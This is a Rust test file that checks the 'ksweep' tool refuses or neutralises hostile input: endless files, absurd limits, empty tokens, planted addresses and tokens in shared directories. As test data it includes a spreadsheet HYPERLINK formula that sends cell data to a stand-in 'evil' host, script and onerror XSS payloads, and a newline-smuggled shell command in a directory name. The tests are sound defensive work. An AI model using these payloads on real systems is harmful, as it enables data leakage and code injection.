//! What the `ksweep` binary does with input meant to hurt: endless or huge
//! files, absurd thread counts, empty tokens, names that are formulas or
//! markup, files that are not start lists. Each answer is a prompt refusal
//! that names the flag or field and the limit, or output that stays inert.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

/// Runs ksweep with `env` set; a run that has not ended after 20 s is
/// killed and fails the test (an unbounded read would take minutes and
/// gigabytes).
fn ksweep_env(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_ksweep"));
    // The developer's own settings must not leak into these runs.
    for var in ["KSWEEP_TOKEN", "KSWEEP_TOKEN_FILE", "KSWEEP_COORDINATOR", "KSWEEP_TLS_CA", "RUST_LOG"] {
        command.env_remove(var);
    }
    let child = command
        .args(args)
        .envs(env.iter().copied())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    finish_within(child, Duration::from_secs(20), args)
}

fn ksweep(args: &[&str]) -> Output {
    ksweep_env(args, &[])
}

fn finish_within(mut child: Child, limit: Duration, what: &[&str]) -> Output {
    let deadline = Instant::now() + limit;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("ksweep {what:?} still ran after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

/// The error of a run that must fail.
fn refusal(o: &Output) -> String {
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(!o.status.success(), "ksweep should have failed; stderr: {err}");
    err
}

fn stdout(o: &Output) -> String {
    assert!(o.status.success(), "ksweep failed: {}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout.clone()).unwrap()
}

/// A port nothing listens on.
fn closed_port_url() -> String {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    format!("http://127.0.0.1:{port}")
}

const SPEC_LIMIT: &str = "larger than 1048576 bytes (the limit of a spec)";

#[cfg(unix)]
#[test]
fn an_endless_spec_is_refused_at_its_limit() {
    let url = closed_port_url();
    for args in [vec!["check", "/dev/zero"], vec!["submit", "/dev/zero", "--coordinator", &url]] {
        let err = refusal(&ksweep(&args));
        assert!(err.contains(&format!("spec: /dev/zero: {SPEC_LIMIT}")), "{args:?}: {err}");
    }
}

#[test]
fn a_huge_sparse_spec_is_refused_at_its_limit() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.toml");
    std::fs::File::create(&path).unwrap().set_len(10 << 30).unwrap();
    let db = dir.path().join("s.db");
    for args in
        [vec!["check", path.to_str().unwrap()], vec!["run", path.to_str().unwrap(), "--db", db.to_str().unwrap()]]
    {
        let err = refusal(&ksweep(&args));
        assert!(err.contains(SPEC_LIMIT), "{args:?}: {err}");
    }
    assert!(!db.exists(), "nothing started");
}

/// A spec whose only grid reads its starts from `starts_file`.
fn spec_with_starts_file(dir: &Path, starts_file: &str) -> PathBuf {
    let spec = dir.join("s.toml");
    let text = format!(
        "name = \"s\"\nseed = 1\nmethods = [\"w\"]\n[[grid]]\nrule = [2, 1]\ndims = [2]\nn = [8]\nstarts_file = {starts_file:?}\n"
    );
    std::fs::write(&spec, text).unwrap();
    spec
}

#[cfg(unix)]
#[test]
fn an_endless_starts_file_is_refused_at_its_limit() {
    let dir = tempfile::tempdir().unwrap();
    let spec = spec_with_starts_file(dir.path(), "/dev/zero");
    let err = refusal(&ksweep(&["check", spec.to_str().unwrap()]));
    assert!(
        err.contains(
            "grid[0].starts_file: cannot read \"/dev/zero\": larger than 1048576 bytes \
             (the limit of the starts_files of a spec, together)"
        ),
        "{err}"
    );
}

#[test]
fn starts_files_share_one_limit() {
    let dir = tempfile::tempdir().unwrap();
    // 600 KB of starts (a comment pads it): one file fits, the same file
    // named by two grids does not.
    let starts = format!("# {}\n0,0\n", "x".repeat(600_000));
    std::fs::write(dir.path().join("starts.txt"), starts).unwrap();
    let spec = spec_with_starts_file(dir.path(), "starts.txt");
    stdout(&ksweep(&["check", spec.to_str().unwrap()]));
    let one = std::fs::read_to_string(&spec).unwrap();
    let grid = &one[one.find("[[grid]]").unwrap()..];
    std::fs::write(&spec, format!("{one}{}", grid.replace("n = [8]", "n = [10]"))).unwrap();
    let err = refusal(&ksweep(&["check", spec.to_str().unwrap()]));
    assert!(err.contains("grid[1].starts_file: cannot read \"starts.txt\": larger than 1048576 bytes"), "{err}");
}

#[test]
fn a_starts_file_error_says_the_line_not_its_text() {
    let dir = tempfile::tempdir().unwrap();
    // Like /etc/shadow: a line that is no start and must not be printed.
    std::fs::write(dir.path().join("shadow"), "# users\nroot:$6$s3cr3t$hash:19000:0:99999:7:::\n").unwrap();
    let spec = spec_with_starts_file(dir.path(), "shadow");
    let err = refusal(&ksweep(&["check", spec.to_str().unwrap()]));
    assert!(
        err.contains("grid[0].starts_file: \"shadow\" line 2: coordinate 1 is not a non-negative integer"),
        "{err}"
    );
    assert!(!err.contains("s3cr3t") && !err.contains("root"), "the line's text is not printed: {err}");
}

#[cfg(unix)]
#[test]
fn an_endless_token_file_is_refused_at_its_limit() {
    let url = closed_port_url();
    for command in ["status", "worker"] {
        let err = refusal(&ksweep(&[command, "--coordinator", &url, "--token-file", "/dev/zero"]));
        assert!(
            err.contains("--token-file: /dev/zero: larger than 4096 bytes (the limit of a token file)"),
            "{command}: {err}"
        );
    }
    let err = refusal(&ksweep(&["status", "--coordinator", &url, "--tls-ca", "/dev/zero"]));
    assert!(err.contains("--tls-ca: /dev/zero: larger than 1048576 bytes (the limit of a PEM file)"), "{err}");
}

/// A spec read from a pipe that never delivers: SIGTERM still ends the
/// command (it reads before it installs its signal handlers).
#[cfg(unix)]
#[test]
fn sigterm_ends_a_run_waiting_on_its_spec() {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("spec.toml");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let db = dir.path().join("s.db");
    let child = Command::new(env!("CARGO_BIN_EXE_ksweep"))
        .args(["run", fifo.to_str().unwrap(), "--db", db.to_str().unwrap()])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Opening the write end without blocking succeeds once ksweep has the
    // read end open (past where it once installed its handlers); holding
    // it open, writing nothing, keeps ksweep reading.
    const O_NONBLOCK: i32 = 0o4000;
    let deadline = Instant::now() + Duration::from_secs(20);
    let _writer = loop {
        match std::fs::OpenOptions::new().write(true).custom_flags(O_NONBLOCK).open(&fifo) {
            Ok(w) => break w,
            Err(_) => {
                assert!(Instant::now() < deadline, "ksweep never opened its spec");
                std::thread::sleep(Duration::from_millis(10));
            }
        }
    };
    assert!(Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap().success());
    let o = finish_within(child, Duration::from_secs(10), &["run", "<fifo>"]);
    assert_eq!(o.status.signal(), Some(15), "ended by SIGTERM: {o:?}");
}

#[test]
fn an_absurd_thread_count_is_refused_with_the_limit() {
    let url = closed_port_url();
    let dir = tempfile::tempdir().unwrap();
    let spec = spec_with_starts_file(dir.path(), "unused");
    for args in [
        vec!["worker", "--coordinator", &url, "--threads", "100000"],
        vec!["run", spec.to_str().unwrap(), "--threads", "100000"],
        vec!["eval", "--rule", "2,1", "--dims", "2", "--n", "8", "--threads", "100000"],
    ] {
        let err = refusal(&ksweep(&args));
        assert!(err.contains("'--threads <THREADS>': 100000 is not in 0..=4096"), "{args:?}: {err}");
    }
}

#[test]
fn an_empty_token_is_refused_from_every_source() {
    let url = closed_port_url();
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("token");
    std::fs::write(&empty, " \n").unwrap();
    let db = dir.path().join("c.db");
    let (empty, db) = (empty.to_str().unwrap(), db.to_str().unwrap());
    let commands: [&[&str]; 3] = [
        &["status", "--coordinator", &url],
        &["worker", "--coordinator", &url],
        &["coordinator", "--listen", "127.0.0.1:0", "--db", db],
    ];
    let blank = "empty or only spaces; give a token of at least one visible character, or none at all";
    for command in commands {
        for given in ["", " ", "\t "] {
            let flag = [command, &["--token", given]].concat();
            let err = refusal(&ksweep(&flag));
            assert!(err.contains(&format!("--token: {blank}")), "{given:?}: {err}");
            let err = refusal(&ksweep_env(command, &[("KSWEEP_TOKEN", given)]));
            assert!(err.contains(&format!("KSWEEP_TOKEN: {blank}")), "{command:?}: {err}");
        }
        let err = refusal(&ksweep(&[command, &["--token", " padded"]].concat()));
        assert!(err.contains("--token: begins or ends with a space"), "{err}");
        let file = [command, &["--token-file", empty]].concat();
        let err = refusal(&ksweep(&file));
        assert!(err.contains(&format!("--token-file: {empty}: {blank}")), "{command:?}: {err}");
        let err = refusal(&ksweep_env(command, &[("KSWEEP_TOKEN_FILE", empty)]));
        assert!(err.contains(&format!("--token-file: {empty}: {blank}")), "{command:?}: {err}");
    }
    assert!(!Path::new(db).exists(), "no coordinator started");
}

#[test]
fn a_coordinator_without_a_token_serves_loopback_only_unless_told() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    // Refused before anything binds: no test listens beyond loopback.
    for exposed in [&["--listen", "0.0.0.0:0"][..], &["--listen", "127.0.0.1:0", "--http", "0.0.0.0:0"]] {
        let err = refusal(&ksweep(&[&["coordinator", "--db", db], exposed].concat()));
        let flag = exposed[exposed.len() - 2];
        assert!(
            err.contains(&format!("{flag}: 0.0.0.0:0 is not a loopback address and no token is set"))
                && err.contains("--insecure-no-token"),
            "{err}"
        );
    }
    let err = refusal(&ksweep(&["coordinator", "--db", db, "--insecure-no-token", "--token", "t"]));
    assert!(err.contains("'--insecure-no-token' cannot be used with '--token <TOKEN>'"), "{err}");
    assert!(!Path::new(db).exists(), "no coordinator started");
}

/// A small sweep run to completion, its spec naming explicit moves whose
/// list begins with a minus and the given sweep name.
fn finished_db(dir: &Path, name: &str) -> String {
    let spec = dir.join("s.toml");
    let text = format!(
        "name = {name:?}\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\n\
         moves = [[-2, 1], [-1, 2], [1, 2], [2, 1], [2, -1], [1, -2], [-1, -2], [-2, -1]]\nshapes = [[5, 5]]\n"
    );
    std::fs::write(&spec, text).unwrap();
    let db = dir.join("s.db");
    stdout(&ksweep(&["run", spec.to_str().unwrap(), "--db", db.to_str().unwrap(), "--threads", "1"]));
    db.to_str().unwrap().to_string()
}

#[test]
fn a_worker_named_as_a_formula_is_exported_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = finished_db(dir.path(), "s");
    let formula = "=HYPERLINK(\"http://evil/\"&A1,\"x\")";
    let conn = rusqlite::Connection::open(&db).unwrap();
    assert!(conn.execute("UPDATE workers SET name = ?1", [formula]).unwrap() > 0);
    drop(conn);

    let csv = stdout(&ksweep(&["export", "--db", &db, "--format", "csv"]));
    let rows: Vec<&str> = csv.lines().skip(1).collect();
    assert_eq!(rows.len(), 2, "{csv}");
    // The sweep, the rule as it was (an unlabelled list: its own name), and
    // the move list on the configuration's first row only.
    let list = "\"-2,1 -1,2 1,2 2,1 2,-1 1,-2 -1,-2 -2,-1\"";
    assert!(rows[0].contains(&format!(",{list},{list},2,5,")), "{}", rows[0]);
    assert!(rows[1].contains(&format!(",{list},,2,5,")), "{}", rows[1]);
    for row in rows {
        assert!(row.len() > 17 && row.as_bytes()[16] == b',', "the sweep id first: {row}");
        // The worker's name, then its provenance (version, host, CPU, features), then the state.
        assert!(row.contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\","), "{row}");
        assert!(row.ends_with(",done"), "{row}");
    }
    // JSON is no spreadsheet: the name stays as the worker gave it.
    let jsonl = stdout(&ksweep(&["export", "--db", &db, "--format", "jsonl"]));
    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(first["worker"], formula);
}

#[test]
fn a_report_shows_a_hostile_sweep_name_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = finished_db(dir.path(), "<script>alert(1)</script><img src=x onerror=alert(2)>");
    let md = dir.path().join("r.md");
    stdout(&ksweep(&["report", "--db", &db, "-o", md.to_str().unwrap()]));
    let md = std::fs::read_to_string(md).unwrap();
    let (text, spec) = md.split_once("## Spec").unwrap();
    assert!(text.starts_with("# knight-sweep report: &lt;script&gt;alert(1)&lt;/script&gt;&lt;img"), "{text}");
    assert!(!text.contains("<script") && !text.contains("<img"), "{text}");
    assert!(spec.contains("```toml\nname = "), "the spec is code, as written: {spec}");

    let html = dir.path().join("r.html");
    stdout(&ksweep(&["report", "--db", &db, "-o", html.to_str().unwrap()]));
    let html = std::fs::read_to_string(html).unwrap();
    assert!(!html.contains("<script") && !html.contains("<img"), "no tag of the name in the HTML");
    assert!(html.contains("<h1>knight-sweep report: &lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[cfg(unix)]
#[test]
fn an_endless_eval_line_is_refused_at_its_limit() {
    let child = Command::new(env!("CARGO_BIN_EXE_ksweep"))
        .args(["eval", "--rule", "2,1", "--dims", "2", "--n", "8"])
        .stdin(std::fs::File::open("/dev/zero").unwrap())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let err = refusal(&finish_within(child, Duration::from_secs(20), &["eval", "< /dev/zero"]));
    assert!(err.contains("stdin line 1: longer than 4096 bytes (the limit of a line)"), "{err}");
}

/// A spec for the cluster-directory tests.
fn small_spec(dir: &Path) -> PathBuf {
    let spec = dir.join("s.toml");
    std::fs::write(
        &spec,
        "name = \"s\"\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\nrule = [2, 1]\ndims = [2]\nn = [5]\n",
    )
    .unwrap();
    spec
}

#[cfg(unix)]
fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// `ksweep slurm --dir` with a newline in the directory's name: refused
/// before a script is written (it once reached a comment line and ran).
#[test]
fn a_slurm_directory_with_a_newline_is_refused_before_any_script() {
    let tmp = tempfile::tempdir().unwrap();
    let spec = small_spec(tmp.path());
    let pwned = tmp.path().join("pwned");
    let dir = tmp.path().join(format!("d\ntouch {}\n#", pwned.display()));
    let err = refusal(&ksweep(&[
        "slurm",
        spec.to_str().unwrap(),
        "--workers",
        "1",
        "--dir",
        dir.to_str().unwrap(),
        "--dry-run",
    ]));
    assert!(err.contains("--dir: ") && err.contains("has characters an #SBATCH line cannot carry"), "{err}");
    assert!(!dir.join("coordinator.sbatch").exists() && !pwned.exists());
}

/// A shared directory where another user could write: the address and the
/// token found there are believed only when this user owns them and no one
/// else may write them (nor read the token). A worker never sends the
/// token to a planted address.
#[cfg(unix)]
#[test]
fn a_planted_address_or_token_in_a_shared_directory_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("shared");
    std::fs::create_dir(&dir).unwrap();
    chmod(&dir, 0o1777);
    let spec = small_spec(tmp.path());
    let (dir_arg, spec_arg) = (dir.to_str().unwrap(), spec.to_str().unwrap());

    // The attacker's listener, where a fooled worker would connect.
    let trap = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    trap.set_nonblocking(true).unwrap();
    let url = dir.join("coordinator.url");
    std::fs::write(&url, format!("http://{}\n", trap.local_addr().unwrap())).unwrap();
    chmod(&url, 0o666);
    let token = dir.join("token");
    std::fs::write(&token, "real-secret\n").unwrap();
    chmod(&token, 0o600);
    let err = refusal(&ksweep(&["worker", "--dir", dir_arg]));
    assert!(err.contains(&format!("{}: not trusted: others may write it", url.display())), "{err}");
    assert!(err.contains(&format!("chmod go-w {}", url.display())), "{err}");
    let gave_away = std::os::unix::fs::chown(&url, Some(65534), Some(65534)).is_ok();
    if gave_away {
        chmod(&url, 0o644);
        let err = refusal(&ksweep(&["worker", "--dir", dir_arg]));
        assert!(err.contains("not to you") && err.contains("someone else may have put it there"), "{err}");
    } else {
        eprintln!("skipped another user's address: this test cannot give a file away (not root)");
    }
    assert!(trap.accept().is_err(), "the worker connected to the planted address");

    // A token others may read is no secret: neither reused nor served.
    std::fs::remove_file(&url).unwrap();
    chmod(&token, 0o644);
    let slurm = ["slurm", spec_arg, "--workers", "1", "--dir", dir_arg, "--dry-run"];
    for command in [&slurm[..], &["coordinator", "--dir", dir_arg, "--listen", "127.0.0.1:0"]] {
        let err = refusal(&ksweep(command));
        assert!(err.contains(&format!("{}: not trusted: others may read it", token.display())), "{command:?}: {err}");
        assert!(err.contains(&format!("chmod 600 {}", token.display())), "{err}");
    }
    assert!(!dir.join("coordinator.sbatch").exists() && !dir.join("sweeps.db").exists());
    chmod(&token, 0o600);
    stdout(&ksweep(&slurm));
    assert_eq!(std::fs::read_to_string(&token).unwrap(), "real-secret\n", "a trusted token is kept");
}

/// A grid label meant to hurt, through the binary's outputs that once
/// wrote it raw: `run` and `table` as CSV, `export`, and a Markdown report.
#[test]
fn a_hostile_grid_label_is_text_in_every_output() {
    let dir = tempfile::tempdir().unwrap();
    let label = "=HYPERLINK(\"http://e/\") <img src=x onerror=alert(1)>";
    let spec = dir.path().join("s.toml");
    std::fs::write(
        &spec,
        format!(
            "name = \"s\"\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\nrule = [2, 1]\ndims = [2]\nn = [5]\n\
             label = {label:?}\n"
        ),
    )
    .unwrap();
    let db = dir.path().join("s.db");
    let (spec, db) = (spec.to_str().unwrap(), db.to_str().unwrap());
    let quoted = "\"'=HYPERLINK(\"\"http://e/\"\") <img src=x onerror=alert(1)>\"";
    let run = stdout(&ksweep(&["run", spec, "--db", db, "--threads", "1", "--format", "csv"]));
    let table = stdout(&ksweep(&["table", "--db", db, "--format", "csv"]));
    let export = stdout(&ksweep(&["export", "--db", db, "--format", "csv"]));
    for (what, csv) in [("run", &run), ("table", &table), ("export", &export)] {
        assert!(csv.contains(quoted), "{what}: the label not as text:\n{csv}");
        assert!(!csv.contains(&format!(",{label}")) && !csv.contains(&format!("\n{label}")), "{what}:\n{csv}");
    }
    let md = dir.path().join("r.md");
    stdout(&ksweep(&["report", "--db", db, "-o", md.to_str().unwrap()]));
    let md = std::fs::read_to_string(md).unwrap();
    // The spec at its end is a fenced code block, shown as written.
    let (md, spec) = md.split_once("## Spec").unwrap();
    assert!(!md.contains("<img"), "a tag in the Markdown report:\n{md}");
    assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"), "{md}");
    assert!(spec.contains("```toml\n") && spec.contains(label), "{spec}");
    let svg = dir.path().join("a.svg");
    stdout(&ksweep(&["plot", "--db", db, "--kind", "accuracy", "-o", svg.to_str().unwrap()]));
    let svg = std::fs::read_to_string(svg).unwrap();
    assert!(!svg.contains("<img") && svg.contains("&lt;img"), "the label in the figure:\n{svg}");
}

/// Absurd durations and sizes are refused with the limit at parse time,
/// and an absurd batch-job end is taken as none: nothing panics (a far
/// end once overflowed the clock, exit 101).
#[test]
fn absurd_lifetimes_ends_and_sizes_are_bounded() {
    let url = closed_port_url();
    for (flag, value, why) in [
        ("--lifetime", "18446744073709551615", "is over the limit 366d"),
        ("--lifetime", "0", "is below the minimum 11s"),
        ("--lifetime", "0s", "is not a duration"),
        ("--memory", "18446744073709551615", "is over the limit 1P (1125899906842624 bytes)"),
        ("--memory", "16384P", "is over the limit 1P"),
    ] {
        let o = ksweep(&["worker", "--coordinator", &url, flag, value]);
        let err = refusal(&o);
        assert_eq!(o.status.code(), Some(2), "a usage error, not a panic: {err}");
        assert!(err.contains(flag) && err.contains(why), "{flag} {value}: {err}");
    }
    let far = u64::MAX.to_string();
    let o = ksweep_env(&["worker", "--coordinator", &url, "--lifetime", "12s"], &[("SLURM_JOB_END_TIME", &far)]);
    assert!(o.status.success(), "the worker leaves at its lifetime: {}", String::from_utf8_lossy(&o.stderr));
}

/// A board past this machine's memory, its cell limit raised, is refused
/// before anything is allocated (it once aborted on the failed allocation).
#[test]
fn a_board_larger_than_memory_is_refused_before_it_is_allocated() {
    let huge = ["--rule", "2,1", "--dims", "2", "--n", "200000", "--max-cells", "18446744073709551615"];
    let tour = refusal(&ksweep(&[&["tour", "--start", "0,0", "--method", "w"], &huge[..]].concat()));
    assert!(tour.contains("GiB for 1 thread(s), more than this process may use"), "{tour}");
    let eval = refusal(&ksweep(&[&["eval", "--method", "w", "--threads", "2"], &huge[..]].concat()));
    assert!(eval.contains("GiB for 2 thread(s), more than this process may use"), "{eval}");
}
